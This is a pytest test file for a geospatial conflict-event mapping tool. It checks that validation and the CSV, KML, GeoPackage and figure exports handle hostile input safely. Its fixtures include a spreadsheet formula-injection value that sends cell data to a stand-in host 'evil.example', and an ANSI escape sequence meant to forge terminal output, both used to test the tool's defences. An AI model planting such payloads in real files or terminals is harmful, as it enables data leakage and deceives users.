"""Hardening (issue 12): what validation accepts, everything downstream handles."""

from __future__ import annotations

import csv
import errno
import html
import json
import os
import time
import zipfile
from datetime import date
from html.parser import HTMLParser
from pathlib import Path
from typing import Any
from xml.etree import ElementTree as ET

import matplotlib as mpl
import pyogrio
import pyogrio.errors
import pytest
from typer.testing import CliRunner

import geo._io
import geo.export.gpkg
import geo.figure
from geo._errors import OutputError
from geo.cli import app
from geo.config import Settings
from geo.dataset import Dataset
from geo.events import MAX_CLAIM_VALUE, MAX_TEXT_CHARS, MIN_YEAR
from geo.export import export_package, import_export
from geo.export.flat import csv_cell
from geo.figure import figure_bytes
from geo.handout import handout_bytes
from geo.join import join_events
from geo.layers import (
    MAX_JSON_DEPTH,
    MAX_LAYER_BYTES,
    episodes_frame,
    layers_to_frame,
    parse_layer,
    validate_paths,
)
from geo.style import MARKER_CAP_DEATHS, marker_radius
from geo.text import printable
from geo.view import View
from tests.factories import SOURCE, claim, event, four_squares, layer
from tests.helpers import pdf_text

runner = CliRunner()
WHERE = "layers/t.geojson feature 0 (id test-2020-07-14-a)"


def problems_for(data: dict[str, Any]) -> list[str]:
    return parse_layer(data, origin="layers/t.geojson")[1]


def write(path: Path, data: Any) -> Path:
    path.write_text(json.dumps(data), encoding="utf-8")
    return path


# --- 1. validation limits -------------------------------------------------------------------


def test_claim_values_up_to_the_cap_pass_and_above_it_are_refused() -> None:
    ok = layer(event(claims=[claim(measure="property_damage_azn", value=5_000_000_000)]))
    assert problems_for(ok) == []
    too_big = layer(event(claims=[claim(value=MAX_CLAIM_VALUE + 1)]))
    assert problems_for(too_big) == [
        f"{WHERE}: field 'claims[0].value': Input should be less than or equal to "
        f"{MAX_CLAIM_VALUE} (got {MAX_CLAIM_VALUE + 1})"
    ]
    huge = layer(event(claims=[claim(qualifier="range", value=None, low=1, high=2**63)]))
    assert problems_for(huge) == [
        f"{WHERE}: field 'claims[0].high': Input should be less than or equal to "
        f"{MAX_CLAIM_VALUE} (got {2**63})"
    ]


@pytest.mark.parametrize(
    ("field", "value"), [("event_date", "3023-07-14"), ("date_start", "1023-07-14")]
)
def test_implausible_years_are_validation_errors(field: str, value: str) -> None:
    year = int(value[:4])
    last = date.today().year + 1
    found = problems_for(layer(event(**{field: value})))
    assert (
        f"{WHERE}: field '{field}': year {year} is outside {MIN_YEAR}..{last}; check the date "
        f"for a typo (got '{value}')"
    ) in found


def test_a_source_published_in_a_typo_year_is_refused() -> None:
    source = {**SOURCE, "published": "2200-01-01"}
    found = problems_for(layer(event(sources=[source])))
    assert found[0] == (
        f"{WHERE}: field 'sources[0].published': year 2200 is outside {MIN_YEAR}.."
        f"{date.today().year + 1}; check the date for a typo (got '2200-01-01')"
    )


@pytest.mark.parametrize(
    ("text", "code", "pos"), [("a\x00b", "0000", 1), ("\x1b[32mOK", "001B", 0), ("x\rY", "000D", 1)]
)
def test_control_characters_are_refused_in_every_text_field(text: str, code: str, pos: int) -> None:
    found = problems_for(layer(event(notes=text)))
    assert found == [
        f"{WHERE}: field 'notes': contains control character U+{code} at position {pos}; "
        f"remove it (got {text!r})"
    ]
    source = {**SOURCE, "cites": ["AFP", text]}
    found = problems_for(layer(event(sources=[source])))
    assert found[0].startswith(
        f"{WHERE}: field 'sources[0].cites': item 1 contains control character U+{code}"
    )


def test_tab_and_newline_are_text() -> None:
    assert problems_for(layer(event(notes="line one\n\tline two"))) == []


@pytest.mark.parametrize("where", ["outlet", "tag"])
def test_a_semicolon_in_an_outlet_or_tag_is_refused_by_validation(where: str) -> None:
    if where == "outlet":
        data = layer(event(sources=[{**SOURCE, "outlet": "Reuters; AP"}]))
        field = "sources[0].outlet"
        prefix = ""
    else:
        data = layer(event(tags=["border", "a;b"]))
        field = "tags"
        prefix = "item 1: "
    assert problems_for(data)[0].startswith(
        f"{WHERE}: field '{field}': {prefix}contains ';', which separates list items in the "
        "CSV, GeoPackage and KML exports"
    )


def test_a_long_bad_value_is_quoted_only_in_part() -> None:
    found = problems_for(layer(event(time_precision="x" * 100_000)))
    assert len(found) == 1
    assert "(99,922 more characters)" in found[0]
    assert len(found[0]) < 400


# --- 2. files -------------------------------------------------------------------------------


def test_only_regular_files_are_read(tmp_path: Path) -> None:
    fifo = tmp_path / "pipe.geojson"
    os.mkfifo(fifo)
    (tmp_path / "folder.geojson").mkdir()
    zero = tmp_path / "zero.geojson"
    zero.symlink_to("/dev/zero")
    report = validate_paths([tmp_path])  # a layers folder holding all three
    assert report.problems == [
        f"{tmp_path / 'folder.geojson'}: is a folder, not a layer file",
        f"{fifo}: not a regular file (a pipe, device or socket); not read",
        f"{zero}: not a regular file (a pipe, device or socket); not read",
    ]
    assert validate_paths([fifo]).problems == [
        f"{fifo}: not a regular file (a pipe, device or socket); not read"
    ]


def test_a_file_over_the_size_limit_is_refused_with_the_limit(tmp_path: Path) -> None:
    big = tmp_path / "big.geojson"
    with big.open("wb") as fh:
        fh.truncate(MAX_LAYER_BYTES + 1)
    assert validate_paths([big]).problems == [
        f"{big}: {MAX_LAYER_BYTES + 1:,} bytes is over the {MAX_LAYER_BYTES:,}-byte limit for "
        "a layer file; split the episode into several layers"
    ]


def test_parser_limits_become_validation_errors(tmp_path: Path) -> None:
    deep = tmp_path / "deep.geojson"
    deep.write_text("[" * 100_000 + "]" * 100_000)
    shallow_but_deep = tmp_path / "nested.geojson"
    shallow_but_deep.write_text("[" * (MAX_JSON_DEPTH + 5) + "]" * (MAX_JSON_DEPTH + 5))
    digits = tmp_path / "digits.geojson"
    data = layer()
    digits.write_text(json.dumps(data).replace('"value": 3', '"value": ' + "9" * 5000))
    dupes = tmp_path / "dupes.geojson"
    dupes.write_text(json.dumps(data).replace('"notes": ', '"notes": "first", "notes": '))
    broken = tmp_path / "broken.geojson"
    broken.write_text('{\n  "type": "FeatureCollection",\n  "features": [,]\n}')
    latin1 = tmp_path / "latin1.geojson"
    latin1.write_bytes(b'{"a": "\xe9"}')
    found = validate_paths([deep, shallow_but_deep, digits, dupes, broken, latin1]).problems
    assert found[0] == f"{deep}: not valid JSON: nested deeper than {MAX_JSON_DEPTH} levels"
    assert (
        found[1]
        == f"{shallow_but_deep}: not valid JSON: nested deeper than {MAX_JSON_DEPTH} levels"
    )
    assert found[2].startswith(f"{digits}: not valid JSON: a number is too long (")
    dupes_at = dupes.read_text().index('"notes": "first", "notes": ') + len('"notes": "first", ')
    assert found[3] == (
        f"{dupes} feature 0 (id test-2020-07-14-a): field 'notes': appears twice in one object "
        f"(line 1 column {dupes_at + 1}); a repeated key would silently drop a value"
    )
    assert found[4] == f"{broken}: not valid JSON at line 3 column 16: Expecting value"
    assert found[5] == f"{latin1}: not valid UTF-8 at byte 7: invalid continuation byte"
    assert len(found) == 6


def test_a_lone_surrogate_is_reported_at_its_field_in_the_file(tmp_path: Path) -> None:
    path = tmp_path / "s.geojson"
    path.write_text(json.dumps(layer()).replace('"A test event."', '"A test \\ud800 event."'))
    assert validate_paths([path]).problems == [
        f"{path} feature 0 (id test-2020-07-14-a): field 'notes': contains a lone surrogate "
        "U+D800 at position 7; not valid text"
    ]
    path.write_text(json.dumps(layer()).replace('"test-2020-07-14-a"', '"x\\udc00"'))
    assert validate_paths([path]).problems == [
        f"{path} feature 0 (id x\\udc00): field 'event_id': contains a lone surrogate "
        "U+DC00 at position 1; not valid text"
    ]


def test_hidden_and_temporary_files_are_never_layers(tmp_path: Path) -> None:
    write(tmp_path / "good.geojson", layer())
    (tmp_path / ".good.x1y2z3.geojson").write_text("{ half-written")
    (tmp_path / ".hidden.geojson").write_text("{}")
    report = validate_paths([tmp_path])
    assert report.problems == []
    assert report.files == [str(tmp_path / "good.geojson")]


def test_misnamed_layer_files_are_reported(tmp_path: Path) -> None:
    write(tmp_path / "good.geojson", layer())
    write(tmp_path / "upper.GeoJSON", layer())
    write(tmp_path / "plain.json", layer())
    (tmp_path / "README.md").write_text("not a layer")
    report = validate_paths([tmp_path])
    assert report.problems == [
        f"{tmp_path / name}: not read as a layer: layer files end in '.geojson' (lower case); "
        "rename it or move it out of the layers folder"
        for name in ("plain.json", "upper.GeoJSON")
    ]


# --- 4. output channels: the command line ---------------------------------------------------


def test_printable_escapes_control_characters_and_surrogates() -> None:
    assert printable("a\x1b[32mOK\x07\tb\nc\x9b\ud800") == "a\\x1b[32mOK\\x07\\x09b\nc\\x9b\\ud800"


def test_validate_cannot_forge_terminal_output(tmp_path: Path) -> None:
    bad = event(event_id="x\x1b[2K\r\x1b[32mOK: all good\x1b[0m")
    path = write(tmp_path / "t.geojson", layer(bad))
    result = runner.invoke(app, ["validate", str(path)])
    assert result.exit_code == 1
    assert "\x1b" not in result.output and "\r" not in result.output
    assert (
        f"{path} feature 0 (id x\\x1b[2K\\x0d\\x1b[32mOK: all good\\x1b[0m): field 'event_id'"
        in (result.output)
    )


def test_codebook_to_a_read_only_folder_is_a_clear_error(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    folder = tmp_path / "ro"
    folder.mkdir()

    def refuse(*args: Any, **kwargs: Any) -> Any:  # what a read-only folder does, even for root
        raise PermissionError(errno.EACCES, "Permission denied")

    monkeypatch.setattr(geo._io.tempfile, "mkstemp", refuse)
    result = runner.invoke(app, ["codebook", "-o", str(folder / "CODEBOOK.md")])
    assert result.exit_code == 1
    assert result.exception is None or isinstance(result.exception, SystemExit)
    assert result.output.strip() == f"cannot write {folder / 'CODEBOOK.md'}: Permission denied"


# --- 1 and 3. exports -----------------------------------------------------------------------


def dataset_of(data: dict[str, Any]) -> Dataset:
    parsed, problems = parse_layer(data, origin="layers/t.geojson")
    assert parsed is not None and problems == [], problems
    admin = four_squares()
    return Dataset(join_events(layers_to_frame([parsed]), admin), episodes_frame([parsed]), admin)


BIG = MAX_CLAIM_VALUE  # above 2**31: a 5-billion-manat damage claim is realistic
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.fixture(scope="module")
def hostile_data() -> Dataset:
    first = event(
        claims=[
            claim(value=BIG),
            claim(measure="property_damage_azn", value=5_000_000_000, side="any", group="any"),
        ],
        notes=FORMULA,
        location="-2+3 & <Tovuz>",
        actor2="@SUM(A1:A9)",
        tags=["'quoted", "+plus"],
    )
    second = event(
        "test-2020-07-14-b", notes="+48 hours of shelling", location="Safe place", claims=[]
    )
    return dataset_of(layer(first, second))


def test_claims_above_32_bits_survive_every_export(tmp_path: Path, hostile_data: Dataset) -> None:
    gpkg = export_package(hostile_data, tmp_path / "x.gpkg", fmt="gpkg")
    back = import_export(gpkg)
    assert int(back.loc["test-2020-07-14-a", "deaths_best"]) == BIG
    claims = pyogrio.read_dataframe(gpkg, layer="claims")
    assert sorted(int(v) for v in claims["value"]) == [5_000_000_000, BIG]
    summary = pyogrio.read_dataframe(gpkg, layer="region_summary")
    assert int(summary["deaths_best"].max()) == BIG
    archive = export_package(hostile_data, tmp_path / "x.zip", fmt="zip")
    with zipfile.ZipFile(archive) as zf:
        inner = tmp_path / "inner.gpkg"
        inner.write_bytes(zf.read("x.gpkg"))
    assert int(import_export(inner).loc["test-2020-07-14-a", "deaths_best"]) == BIG
    geojson = export_package(hostile_data, tmp_path / "x.geojson", fmt="geojson")
    assert int(import_export(geojson).loc["test-2020-07-14-a", "deaths_best"]) == BIG


def test_csv_cells_that_start_a_formula_are_neutralised(
    tmp_path: Path, hostile_data: Dataset
) -> None:
    out = export_package(hostile_data, tmp_path / "x.csv", fmt="csv")
    with out.open(encoding="utf-8", newline="") as fh:
        rows = {r["event_id"]: r for r in csv.DictReader(fh)}
    first, second = rows["test-2020-07-14-a"], rows["test-2020-07-14-b"]
    assert first["notes"] == "'" + FORMULA
    assert first["location"] == "'-2+3 & <Tovuz>"
    assert first["actor2"] == "'@SUM(A1:A9)"
    assert first["tags"] == "''quoted; +plus"  # only the cell's first character counts
    assert second["notes"] == "'+48 hours of shelling"
    assert second["location"] == "Safe place"
    assert first["deaths_best"] == str(BIG)  # numbers stay numbers
    # Validation strips leading whitespace, so tab and CR are covered here directly:
    assert csv_cell("\tx") == "'\tx" and csv_cell("\rx") == "'\rx" and csv_cell("a=b") == "a=b"
    every_cell = [c for r in rows.values() for c in r.values()]
    assert not [c for c in every_cell if c[:1] in ("=", "+", "@", "\t", "\r")]


def test_kml_text_is_escaped_by_one_rule(tmp_path: Path, hostile_data: Dataset) -> None:
    out = export_package(hostile_data, tmp_path / "x.kml", fmt="kml")
    ns = {"k": "http://www.opengis.net/kml/2.2"}
    root = ET.parse(out).getroot()
    mark = root.find(".//k:Placemark[@id='test-2020-07-14-a']", ns)
    assert mark is not None
    # Plain-text elements read back as the data itself ...
    assert mark.findtext("k:name", namespaces=ns) == "-2+3 & <Tovuz>"
    values = {
        d.get("name"): d.findtext("k:value", namespaces=ns)
        for d in mark.iterfind("k:ExtendedData/k:Data", ns)
    }
    assert values["notes"] == FORMULA and values["location"] == "-2+3 & <Tovuz>"
    # ... and the HTML description reads back as HTML whose text is the data itself.
    description = mark.findtext("k:description", namespaces=ns) or ""
    assert html.escape(FORMULA, quote=True) in description
    assert "<p>" in description and "&lt;Tovuz&gt;" not in description  # no location there
    texts = _HtmlText()
    texts.feed(description)
    assert FORMULA in texts.text


class _HtmlText(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.text = ""

    def handle_data(self, data: str) -> None:
        self.text += data


def test_a_csv_export_is_replaced_as_a_whole_or_not_at_all(
    tmp_path: Path, hostile_data: Dataset, monkeypatch: pytest.MonkeyPatch
) -> None:
    first = export_package(hostile_data, tmp_path / "x.csv", fmt="csv")
    before = {p.name: p.read_bytes() for p in tmp_path.iterdir()}
    assert sorted(before) == ["x.csv", "x_claims.csv", "x_sources.csv"]
    real = Path.write_bytes

    def fail_on_sources(self: Path, data: bytes) -> int:
        if "_sources" in self.name:
            raise OSError(errno.ENOSPC, "No space left on device")
        return real(self, data)

    monkeypatch.setattr(Path, "write_bytes", fail_on_sources)
    smaller = dataset_of(layer(event()))
    with pytest.raises(OutputError, match=r"cannot write .*x_sources\.csv: No space left"):
        export_package(smaller, first, fmt="csv")
    after = {p.name: p.read_bytes() for p in tmp_path.iterdir()}
    assert after == before  # old set intact, no temporary file left


def test_a_full_disk_during_a_geopackage_export_is_a_clear_error(
    tmp_path: Path, hostile_data: Dataset, monkeypatch: pytest.MonkeyPatch
) -> None:
    target = tmp_path / "x.gpkg"
    target.write_bytes(b"previous export")
    calls = []

    def full(*args: Any, **kwargs: Any) -> None:
        calls.append(args[1])
        Path(args[1]).write_bytes(b"partial")  # GDAL had begun the file
        raise pyogrio.errors.DataLayerError(
            "Error while writing batch to OGR layer: sqlite3_exec(COMMIT) failed: "
            "database or disk is full"
        )

    monkeypatch.setattr(geo.export.gpkg.pyogrio, "write_arrow", full)
    with pytest.raises(OutputError) as info:
        export_package(hostile_data, target, fmt="gpkg")
    assert str(info.value) == f"cannot write {target}: database or disk is full"
    assert target.read_bytes() == b"previous export"
    assert [p.name for p in tmp_path.iterdir()] == ["x.gpkg"]  # the partial file is gone
    assert Path(calls[0]).parent == tmp_path


# --- 5. figures -------------------------------------------------------------------------------


DOLLARS = "Damage put at $5 and $6 million; $\\foo$ is no formula"


@pytest.fixture(scope="module")
def dollar_data() -> Dataset:
    return dataset_of(
        layer(
            event(notes=DOLLARS, location="Tovuz $\\bar$", claims=[claim(value=10_000)]),
            event(
                "test-2020-07-14-b",
                claims=[claim(value=10**8)],
                geometry={"type": "Point", "coordinates": [46.5, 40.5]},
                place_id=None,
                location="Beta",
            ),
        )
    )


def test_dollars_in_text_are_never_mathtext(dollar_data: Dataset) -> None:
    title = "$\\foo$ costs $5 and $6"
    svg = figure_bytes(dollar_data, View(), fmt="svg", title=title).decode("utf-8")
    assert title in svg  # drawn as the characters typed, not as math
    assert "Tovuz $\\bar$" in svg
    with mpl.rc_context({"pdf.compression": 0}):
        pdf = handout_bytes(dollar_data, View(), fmt="pdf", title=title)
    text = pdf_text(pdf)
    assert title in text
    assert "$5 and $6 million" in text


def test_marker_size_is_capped_and_the_legend_says_so(dollar_data: Dataset) -> None:
    assert marker_radius(10**8) == marker_radius(MARKER_CAP_DEATHS) == 6 + 3 * 20
    assert marker_radius(MARKER_CAP_DEATHS - 1) < marker_radius(MARKER_CAP_DEATHS)
    svg = figure_bytes(dollar_data, View(), fmt="svg").decode("utf-8")
    assert "Deaths (best estimate)" in svg
    assert f"{MARKER_CAP_DEATHS:,} or more" in svg
    assert "(largest: 100,000,000)" in svg


def test_claims_that_add_up_beyond_64_bits_are_refused(tmp_path: Path) -> None:
    many = [claim(value=MAX_CLAIM_VALUE, subject=f"group {n}") for n in range(10_000)]
    path = write(
        tmp_path / "t.geojson", layer(event(claims=many[:5000]), event("b-1", claims=many[5000:]))
    )
    (found,) = validate_paths([path]).problems
    assert found == (
        f"{path}: the claimed figures add up to {10_000 * MAX_CLAIM_VALUE:,}, beyond the 64-bit "
        f"range ({2**63 - 1:,}) that totals are stored in; check the largest claims"
    )


def test_a_print_map_of_very_many_events_aggregates(
    dollar_data: Dataset, monkeypatch: pytest.MonkeyPatch
) -> None:
    plain = figure_bytes(dollar_data, View(), fmt="svg").decode("utf-8")
    assert "Beta" in plain and "each dark circle counts" not in plain
    monkeypatch.setattr(geo.figure, "PRINT_MARKER_LIMIT", 1)
    svg = figure_bytes(dollar_data, View(), fmt="svg").decode("utf-8")
    assert "each dark circle counts" in svg.replace("\n", " ")
    assert "Beta" not in svg  # no per-event labels: one counted circle per cell
    assert "Deaths (best estimate)" not in svg


def test_a_point_in_the_other_country_is_flagged_by_the_join() -> None:
    data = dataset_of(
        layer(
            event(geometry={"type": "Point", "coordinates": [44.6, 40.5]}, place_id=None),
            event("b-1", geometry={"type": "Point", "coordinates": [45.5, 40.5]}, place_id=None),
        )
    )
    notes = data.events["admin_note"]
    assert (
        "country mismatch: the point lies in ARM (Tavush), but 'country' is AZE; check the "
        "country or the coordinates"
    ) in notes["test-2020-07-14-a"]
    assert "country mismatch" not in notes["b-1"]


def test_a_text_field_over_the_length_limit_is_refused() -> None:
    assert problems_for(layer(event(notes="x" * MAX_TEXT_CHARS))) == []
    found = problems_for(layer(event(notes="x" * 5_000_000)))
    assert len(found) == 1
    assert found[0].startswith(
        f"{WHERE}: field 'notes': is 5,000,000 characters long; the limit is "
        f"{MAX_TEXT_CHARS:,} (summarise it in our own words and cite the source) (got 'xxx"
    )
    assert len(found[0]) < 400


def test_temporaries_left_by_a_killed_write_are_removed_by_the_next(tmp_path: Path) -> None:
    target = tmp_path / "events.csv"
    stale = tmp_path / ".events.ab_c12d3.csv"
    fresh = tmp_path / ".events.zz9y8x7w.csv"
    other = tmp_path / ".events.notours.txt"
    for path in (stale, fresh, other):
        path.write_text("left over")
    old = time.time() - 2 * geo._io.STALE_AFTER_S
    os.utime(stale, (old, old))
    os.utime(other, (old, old))
    geo._io.atomic_write_text(target, "new")
    assert sorted(p.name for p in tmp_path.iterdir()) == [
        ".events.notours.txt",
        ".events.zz9y8x7w.csv",  # a write running now keeps its file
        "events.csv",
    ]


def test_a_handout_of_many_events_lists_the_first_and_says_how_many_more(
    settings: Settings,
) -> None:
    """Issue 12: a handout for thousands of events is readable and quick: it lists the
    first HANDOUT_EVENT_LIMIT events with their claims and says how many more there are."""
    from dataclasses import replace

    from geo.dataset import load_dataset
    from geo.handout import HANDOUT_EVENT_LIMIT, build_handout
    from geo.synthetic import synthetic_frame

    real = load_dataset(settings)
    many = synthetic_frame(real.events, HANDOUT_EVENT_LIMIT + 5)
    many = many.set_index("event_id", drop=False).rename_axis("event_id")
    data = replace(real, events=many)
    handout = build_handout(data, View(), attribution="test credit")
    assert len(handout.events) == HANDOUT_EVENT_LIMIT
    assert handout.not_listed == 5
    page = handout_bytes(data, View(), attribution="test credit").decode("utf-8")
    assert f"{HANDOUT_EVENT_LIMIT + 5} event(s)" in page
    assert "5 more in this area and period are on the map but not listed" in page


def test_a_repeated_key_is_located_at_its_second_spelling_in_its_own_object(
    tmp_path: Path,
) -> None:
    path = tmp_path / "twice.geojson"
    path.write_text(
        '{"type": "FeatureCollection", "type": "x", "features": [\n'
        '  {"type": "Feature", "properties": {"event_id": "a", "x": {"notes": 1},\n'
        '    "notes": "first",\n'
        '    "notes": "second"}}]}'
    )
    assert validate_paths([path]).problems == [
        f"{path}: key 'type' appears twice in one object (line 1 column 31); a repeated "
        "key would silently drop a value",
        f"{path} feature 0 (id a): field 'notes': appears twice in one object (line 4 "
        "column 5); a repeated key would silently drop a value",
    ]
